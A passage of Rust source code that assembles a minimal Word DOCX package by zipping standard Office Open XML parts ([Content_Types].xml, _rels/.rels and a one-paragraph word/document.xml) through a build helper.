        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{esc}</w:t></w:r></w:p></w:body></w:document>"
    );
    crate::build::zip(&[
        ("[Content_Types].xml", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#),
        ("_rels/.rels", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#),
        ("word/document.xml", doc.as_bytes()),
    ])
}
